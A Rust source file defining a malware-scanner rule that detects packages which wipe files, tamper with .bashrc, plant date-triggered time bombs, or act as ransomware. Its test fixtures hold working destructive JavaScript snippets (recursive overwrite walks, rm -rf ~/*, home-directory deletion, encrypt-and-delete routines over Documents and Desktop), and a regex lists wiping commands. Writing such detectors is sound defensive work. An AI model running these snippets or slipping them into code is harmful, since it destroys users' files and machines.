//! Rule `destructive-fs`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
    /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
    /// every file found while walking parent directories, shutdown lines appended to shell rc
    /// files, a time bomb: after a fixed date, emptying every file a recursive walk finds, and
    /// ransomware: a walk of the user's folders (or of files of document types the code lists)
    /// that encrypts each file and removes the original.
    id: "destructive-fs",
    category: Other,
    severity: High,
    capability: Some(crate::model::Capability::FilesystemWrite),
    title: "destroys files or sabotages the machine",
    incident: "node-ipc 10.1.1 (2022) overwrote every file for Russian/Belarusian IPs; Shai-Hulud 2 wiped $HOME; Nx appended shutdown to .bashrc",
    case_file: "index.js",
    flag: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764'); } }; walk(path.resolve(process.cwd(), '..', '..'))",
           "execSync('rm -rf ~/*')", "fs.rmSync(os.homedir(), { recursive: true, force: true })",
           "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
           "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
           "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction lock(key) { for (const dir of ['Desktop', 'Documents']) for (const p of list(path.join(os.homedir(), dir), [])) { const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }",
           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nconst walk = (d) => fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]);\nfunction lock(key, iv) { for (const f of walk(path.join(os.homedir(), 'Pictures')).concat(walk(path.join(os.homedir(), 'Desktop')))) { const data = fs.readFileSync(f); const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(f, Buffer.concat([c.update(data), c.final()])) } }"],
    pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
           "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
           // vite 5.2.10: lists directories in one function, writes a fixed package.json into
           // its cache in another, and names '..' elsewhere; no walk overwrites anything
           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine",
           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction stamp(key) { for (const p of list(path.join(os.homedir(), 'Documents'), [])) { const h = crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex'); const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'index.enc'), c.update(h)) } }",
           "const fs = require('fs'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nexports.seal = (dir, key) => { for (const p of list(dir, [])) { const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }"],
}

/// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
/// (node-ipc 10.1.1: about 520 bytes; vite 5.2.10's unrelated write: 227,000).
const WALK_WINDOW: usize = 1_500;

fn check(pkg: &Package, out: &mut Emitter) {
    let shell = crate::regex!(
        r#"(?i)\brm\s+-[a-z]*r[a-z]*f?[a-z]*\s+(~|\$HOME|\$\{?HOME\}?|/\s|/\*|/['"`]|\.\./\.\.)|\bshred\s+-[a-z]*u|\bdel\s+/[fsq]\s+/[fsq]|\bcipher(\.exe)?\s+/w|\brd\s+/s\s+/q\s+[a-z]:\\|\bmkfs\.|\bdd\s+if=/dev/(zero|random)\s+of=/dev/|shutdown\s+-h\s+(0|now)|format\s+c:"#
    );
    let rc = crate::regex!(r"\.(bashrc|zshrc|bash_profile|profile)\b");
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        if let Some((off, what)) = encrypts_user_files(f) {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                off,
                format!("walks {what}, encrypts each file and removes the original (ransomware)"),
            );
            continue;
        }
        if !crate::mentions!(
            all_text(f),
            [
                "rm ",
                "rm\t",
                "shred",
                "del ",
                "cipher",
                "rd ",
                "mkfs",
                "dd ",
                "shutdown",
                "format",
                "rmSync",
                "rm(",
                "rmdir",
                "rimraf",
                "remove",
                "bashrc",
                "zshrc",
                "profile",
                "writeFile"
            ]
        ) {
            continue;
        }
        let comment = |o: u32| {
            let o = o as usize;
            let start = f.text[..o.min(f.text.len())]
                .rfind('\n')
                .map_or(0, |i| i + 1);
            let line = f.text[start..].trim_start();
            line.starts_with("//")
                || line.starts_with('*')
                || line.starts_with('#') && !line.starts_with("#!")
        };
        if let Some((off, m)) = find_text(f, shell).into_iter().find(|(o, _)| !comment(*o)) {
            out.hit(pkg, f, off, format!("destructive command ({})", m.trim()));
            continue;
        }
        let Some(js) = &f.js else { continue };
        if let Some(c) = js.calls.iter().find(|c| {
            matches!(
                c.path.as_str(),
                "fs.rmSync"
                    | "fs.rm"
                    | "fs.rmdirSync"
                    | "fs.rmdir"
                    | "fs/promises.rm"
                    | "fs.promises.rm"
                    | "rimraf"
                    | "rimraf.sync"
                    | "fs-extra.removeSync"
                    | "fs-extra.remove"
            ) && (c.arg_path(0).is_some_and(|p| {
                p == "os.homedir" || p == "process.env.HOME" || p == "process.env.USERPROFILE"
            }) || c
                .arg_lit(0)
                .is_some_and(|l| matches!(l, "/" | "~" | "C:\\" | "../" | "../../")))
        }) {
            out.hit(
                pkg,
                f,
                c.off,
                format!("removes the home directory or the root ({})", c.path),
            );
            continue;
        }
        let text = all_text(f);
        if let Some(c) = js
            .calls
            .iter()
            .find(|c| c.path.starts_with("fs.appendFile") || c.path.starts_with("fs.writeFile"))
            && rc.is_match(text)
            && (text.contains("shutdown")
                || text.contains("rm -rf")
                || text.contains("curl")
                || text.contains("wget"))
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                c.off,
                "tampers with shell start-up files (.bashrc/.zshrc)",
            );
            continue;
        }
        // The overwrite must sit in the walk itself: within a few lines after a directory
        // listing. A bundle that lists a directory in one function and writes a fixed
        // package.json in another (vite 5.2.10's dependency optimiser) walks nothing.
        let listings: Vec<u32> = js
            .calls
            .iter()
            .filter(|c| c.path.starts_with("fs.readdir"))
            .map(|c| c.off)
            .collect();
        let in_walk = |off: u32| {
            listings
                .iter()
                .any(|&l| l <= off && ((off - l) as usize) < WALK_WINDOW)
        };
        let walks = !listings.is_empty();
        let writes = js
            .calls
            .iter()
            .find(|c| c.path.starts_with("fs.writeFile") && in_walk(c.off));
        // Each finding below needs `writes` or `overwrites` (a write inside a walk, which
        // `overwrites` narrows): without one, skip the searches of the text that follow.
        if writes.is_none() {
            continue;
        }
        let derived = |w: &str| js.derived.iter().any(|(d, _)| d == w);
        let climbs = text.contains("'../../'")
            || text.contains("\"../../\"")
            || text.contains("'../../../'")
            || derived("../../");
        let root = text.contains("'/'") || text.contains("\"/\"") || derived("/");
        // A recursive walk from above the project that overwrites what it finds with constant
        // content (node-ipc 10.1.1 and its locale-keyed imitators).
        let overwrites = js.calls.iter().find(|c| {
            c.path.starts_with("fs.writeFile")
                && c.arg_lit(1).is_some()
                && c.arg_lit(0).is_none()
                && in_walk(c.off)
        });
        let above = text.contains("\"..\"") || text.contains("'..'") || climbs;
        let recursive = js
            .calls
            .iter()
            .filter(|c| c.path.starts_with("fs.readdir"))
            .count()
            >= 1
            && (text.contains("isDirectory") || text.contains("withFileTypes"));
        // A time bomb: after a fixed date, a recursive walk empties or overwrites what it finds.
        let bomb = crate::regex!(
            r#"new Date\(\s*['"`]\d{4}-\d{2}-\d{2}|Date\.UTC\(\s*20\d\d|getFullYear\(\)\s*[><]=?\s*20\d\d"#
        );
        if let (true, Some(w)) = (walks && recursive, overwrites)
            && bomb.is_match(text)
            && (text.contains("Date.now()") || text.contains("new Date()"))
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                w.off,
                "after a fixed date, walks directories and overwrites every file with fixed content",
            );
            continue;
        }
        if let (true, true, Some(w)) = (walks && recursive, above, overwrites) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks directories from above the project and overwrites every file with fixed content",
            );
            continue;
        }
        if let (true, Some(w), true, true) = (walks, writes, climbs, root) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks parent directories up to the root and overwrites the files it finds",
            );
        }
    }
}

/// Ransomware: a recursive walk of the user's own folders (the home directory's Documents,
/// Desktop, Pictures…, or every file with a document, image, database or key extension from a
/// list written in the code) where one function encrypts each file's content
/// (`createCipheriv`, WebCrypto `encrypt`), writes the result and removes, renames away or
/// overwrites the original. Encryption tools and backup programs encrypt what their user names and keep the
/// original, or write an archive elsewhere: the deletion beside the cipher in a walk over
/// folders the code chose is what makes the files hostage. `(offset, what is walked)`.
fn encrypts_user_files(f: &crate::package::FileCtx) -> Option<(u32, &'static str)> {
    let text = f.text.as_str();
    if !crate::mentions!(text, ["createCipher", "subtle.encrypt"]) {
        return None;
    }
    let js = f.js.as_ref()?;
    let walks = js.calls.iter().any(|c| {
        let m = c.path.rsplit('.').next().unwrap_or("");
        m.starts_with("readdir") && c.path.contains("fs")
    }) && (text.contains("isDirectory") || text.contains("withFileTypes"));
    if !walks {
        return None;
    }
    let method = |p: &str| p.rsplit('.').next().unwrap_or("").to_string();
    let ciphers: Vec<u32> = js
        .calls
        .iter()
        .filter(|c| {
            let m = method(&c.path);
            m.starts_with("createCipher") || c.path.ends_with("subtle.encrypt")
        })
        .map(|c| c.off)
        .collect();
    let removes = |c: &crate::js::Call| {
        c.path.contains("fs")
            && matches!(
                method(&c.path).as_str(),
                "rm" | "rmSync" | "unlink" | "unlinkSync" | "rename" | "renameSync"
            )
    };
    let scope_has = |sc: Option<(u32, u32)>, pred: &dyn Fn(&crate::js::Call) -> bool| {
        js.calls.iter().any(|c| pred(c) && js.scope_of(c.off) == sc)
    };
    // The original overwritten with its ciphertext: `writeFile(p, …)` of the path the same
    // function read (`readFile(p)`).
    let in_place = |sc: Option<(u32, u32)>| {
        let body = match sc {
            Some((s, e)) => text
                .get(s as usize..(e as usize).min(text.len()))
                .unwrap_or(""),
            None => text,
        };
        let read = crate::regex!(r"\breadFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*[,)]");
        let write = crate::regex!(r"\bwriteFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*,");
        let reads: Vec<&str> = read
            .captures_iter(body)
            .take(16)
            .filter_map(|c| c.get(1).map(|m| m.as_str()))
            .collect();
        write
            .captures_iter(body)
            .take(16)
            .filter_map(|c| c.get(1))
            .any(|m| reads.contains(&m.as_str()))
    };
    let hit = ciphers.iter().copied().find(|&o| {
        let sc = js.scope_of(o);
        scope_has(sc, &|c| {
            crate::rules::is_file_write(&c.path) || method(&c.path) == "writeFile"
        }) && (scope_has(sc, &removes) || in_place(sc))
    })?;
    let folders = ["Documents", "Desktop", "Pictures", "Downloads", "OneDrive"]
        .iter()
        .filter(|d| text.contains(*d))
        .count();
    let home =
        text.contains("homedir") || text.contains("USERPROFILE") || text.contains("env.HOME");
    if home && folders >= 2 {
        return Some((hit, "the user's folders"));
    }
    let exts = crate::regex!(
        r#"['"`]\.?(?:docx?|xlsx?|pptx?|pdf|jpe?g|png|sql|sqlite|csv|pem|key|kdbx|psd|zip|txt|odt|mdb|wallet|dat)['"`]"#
    );
    (exts.find_iter(text).take(8).count() >= 6)
        .then_some((hit, "files of the user's document types"))
}
